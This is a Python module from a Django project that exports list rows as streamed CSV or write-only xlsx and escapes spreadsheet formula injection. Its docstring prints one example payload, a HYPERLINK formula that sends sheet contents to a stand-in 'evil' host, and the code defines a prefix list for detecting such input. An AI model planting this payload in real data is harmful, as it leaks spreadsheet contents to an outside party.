"""Every CSV / xlsx export: a list's rows as a streamed CSV (UTF-8 with BOM, so Excel shows Chinese)
or an xlsx (openpyxl write-only, so memory stays flat), through `export_requested` for a page's
`?format=csv|xlsx`, and for the API's lists (core.api.views_base, whose columns give each value as
the API's JSON does). Each app keeps its own columns (a list of ExportColumn); amounts go out as
numbers (the unit is in the header).

No cell of an export runs as a formula in Excel or WPS.

A value starting with = + - @ (or with a tab or carriage return, which some spreadsheet programs skip
before looking for those) is read as a formula: `=HYPERLINK("http://evil/?"&A1)` in an enterprise name
would leak the sheet. Such text is prefixed with an apostrophe, which spreadsheets show as plain text.
Numbers, dates and Decimals are left alone: a negative *number* is data, not a formula. Every export
writer passes each cell through `safe_cell` (or writes rows with `safe_row`).
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import tempfile
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from typing import Any
from urllib.parse import quote

from django.db.models import Model, QuerySet
from django.http import FileResponse, HttpResponse, StreamingHttpResponse
from django.utils import timezone

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def safe_cell(value: Any) -> Any:
    """`value` unchanged unless it is text a spreadsheet would evaluate; then quoted with "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def csv_bytes(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file Excel opens correctly with Chinese text: UTF-8 with a BOM, every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return codecs.BOM_UTF8 + buffer.getvalue().encode("utf-8")


def xlsx_append(worksheet, values: Iterable[Any]) -> None:
    """`worksheet.append(values)` for openpyxl, with every cell made safe. openpyxl itself treats any
    string starting with "=" as a formula, so this must wrap every append."""
    worksheet.append(safe_row(values))


# --- list exports ------------------------------------------------------------------------------
CHUNK_SIZE = 2000


@dataclass(frozen=True)
class ExportColumn:
    header: str
    get: Callable[[Model], object]
    is_money: bool = False


def cell_value(value: object, *, for_csv: bool) -> object:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, Decimal):
        # Trailing zeros of Decimal(18, 6) are noise: 3500.000000 -> 3500
        normal = value.normalize()
        if normal == normal.to_integral():
            normal = normal.quantize(Decimal(1))
        return format(normal, "f") if for_csv else normal
    if isinstance(value, dt.datetime):
        value = timezone.localtime(value) if timezone.is_aware(value) else value
        return value.strftime("%Y-%m-%d %H:%M") if for_csv else value.replace(tzinfo=None)
    if isinstance(value, dt.date):
        return value.isoformat() if for_csv else value
    if isinstance(value, (int, float)):
        return value
    return safe_cell(str(value))


def _iterate(rows: Iterable) -> Iterator:
    if isinstance(rows, QuerySet):
        return rows.iterator(chunk_size=CHUNK_SIZE)
    return iter(rows)


def _disposition(filename: str) -> str:
    ascii_name = filename.encode("ascii", "ignore").decode() or "export"
    return f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(filename)}"


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_response(
    columns: list[ExportColumn], rows: Iterable, filename: str
) -> StreamingHttpResponse:
    """Stream a CSV: BOM first, then the header, then one line per object."""
    writer = csv.writer(_Echo())

    def lines() -> Iterator[str]:
        yield "\ufeff"
        yield writer.writerow([c.header for c in columns])
        for obj in _iterate(rows):
            yield writer.writerow([cell_value(c.get(obj), for_csv=True) for c in columns])

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = _disposition(
        filename if filename.endswith(".csv") else filename + ".csv"
    )
    return response


def xlsx_write(
    columns: list[ExportColumn], rows: Iterable, out, *, sheet_title: str = "导出"
) -> None:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet_title[:31])
    bold = Font(bold=True)
    header = []
    for c in columns:
        cell = WriteOnlyCell(ws, value=c.header)
        cell.font = bold
        header.append(cell)
    ws.append(header)
    for obj in _iterate(rows):
        cells = []
        for c in columns:
            value = cell_value(c.get(obj), for_csv=False)
            cell = WriteOnlyCell(ws, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # never a formula, whatever the text
            elif isinstance(value, Decimal):
                cell.number_format = "#,##0.00####" if c.is_money else "General"
            elif isinstance(value, dt.datetime):
                cell.number_format = "yyyy-mm-dd hh:mm"
            elif isinstance(value, dt.date):
                cell.number_format = "yyyy-mm-dd"
            cells.append(cell)
        ws.append(cells)
    wb.save(out)


def xlsx_response(
    columns: list[ExportColumn], rows: Iterable, filename: str, *, sheet_title: str = "导出"
) -> FileResponse:
    """Write the workbook to a temporary file (write-only mode keeps memory flat) and send it."""
    tmp = tempfile.TemporaryFile(suffix=".xlsx")  # noqa: SIM115 - FileResponse closes it
    xlsx_write(columns, rows, tmp, sheet_title=sheet_title)
    tmp.seek(0)
    name = filename if filename.endswith(".xlsx") else filename + ".xlsx"
    response = FileResponse(
        tmp,
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        as_attachment=True,
        filename=name,
    )
    return response


def export_response(
    fmt: str,
    columns: list[ExportColumn],
    rows: Iterable,
    filename: str,
    *,
    sheet_title: str = "导出",
) -> HttpResponse:
    if fmt == "csv":
        return csv_response(columns, rows, filename)
    return xlsx_response(columns, rows, filename, sheet_title=sheet_title)


def export_requested(
    request,
    *,
    columns: list[ExportColumn],
    rows: Iterable,
    filename: str,
    sheet_title: str = "导出",
) -> HttpResponse | None:
    """For function views: the export response when `?format=csv|xlsx` is asked for, else None."""
    fmt = request.GET.get("format")
    if fmt not in ("csv", "xlsx"):
        return None
    name = f"{filename}-{timezone.localdate():%Y%m%d}"
    return export_response(fmt, columns, rows, name, sheet_title=sheet_title)


def export_query(request) -> str:
    """The current query string without paging or format, for the page's export links."""
    params = request.GET.copy()
    for key in ("page", "format"):
        params.pop(key, None)
    return params.urlencode()
